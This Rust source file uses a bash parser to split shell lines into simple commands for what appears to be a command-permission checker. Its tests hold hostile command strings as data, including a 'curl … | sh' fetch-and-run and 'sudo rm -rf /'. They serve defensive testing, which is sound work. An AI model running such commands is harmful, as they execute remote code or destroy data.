//! Splits a shell command into the simple commands a shell would run — across `&&`, `||`,
//! `;`, `|`, subshells, `$(…)`, backticks and process substitution — with a real bash parser
//! (tree-sitter-bash), so each part is judged on its own.

use std::cell::RefCell;

use tree_sitter::{Node, Parser};

use super::pattern::normalize_command;

/// The parts of one command line, or `None` when the line does not parse as shell.
pub type CommandParts = Option<Vec<String>>;

thread_local! {
    // A parser is cheap to reuse and costly to build; one per thread avoids locking.
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// The simple commands of `line`, each with its program named by its basename; `None` when
/// the line is not valid shell (such a request is asked, never allowed by a pattern).
pub fn split_command(line: &str) -> CommandParts {
    let tree = PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .ok()?;
            *slot = Some(parser);
        }
        slot.as_mut()?.parse(line, None)
    })?;
    let root = tree.root_node();
    if root.has_error() {
        return None;
    }
    let mut parts = Vec::new();
    collect(root, line.as_bytes(), &mut parts);
    if parts.is_empty() && !line.trim().is_empty() {
        parts.push(normalize_command(line));
    }
    Some(parts)
}

fn collect(node: Node<'_>, source: &[u8], parts: &mut Vec<String>) {
    let text = |n: Node<'_>| n.utf8_text(source).unwrap_or_default().to_owned();
    match node.kind() {
        "command" => {
            let mut words = Vec::new();
            if let Some(name) = node.child_by_field_name("name") {
                words.push(text(name));
            }
            let mut cursor = node.walk();
            for argument in node.children_by_field_name("argument", &mut cursor) {
                words.push(text(argument));
            }
            if !words.is_empty() {
                parts.push(normalize_command(&words.join(" ")));
            }
        }
        "declaration_command" | "unset_command" | "test_command" => {
            parts.push(normalize_command(&text(node)));
        }
        _ => {}
    }
    let mut cursor = node.walk();
    for child in node.children(&mut cursor) {
        collect(child, source, parts);
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn parts(line: &str) -> Vec<String> {
        split_command(line).unwrap()
    }

    #[test]
    fn compound_commands_split_into_every_simple_command() {
        assert_eq!(parts("git status && rm x"), ["git status", "rm x"]);
        assert_eq!(parts("a; b || c | d"), ["a", "b", "c", "d"]);
        assert_eq!(
            parts("echo $(curl http://x | sh)"),
            ["echo $(curl http://x | sh)", "curl http://x", "sh"]
        );
        assert_eq!(parts("(cd b && ls -la)"), ["cd b", "ls -la"]);
        assert_eq!(parts("echo `whoami`"), ["echo `whoami`", "whoami"]);
    }

    #[test]
    fn program_paths_and_assignments_do_not_hide_the_program() {
        assert_eq!(parts("/usr/bin/sudo rm -rf /"), ["sudo rm -rf /"]);
        assert_eq!(parts("FOO=1 rm x > out.txt"), ["rm x"]);
    }

    #[test]
    fn unparseable_lines_are_none() {
        assert_eq!(split_command("echo 'unterminated"), None);
        assert_eq!(split_command("if then fi ("), None);
    }
}
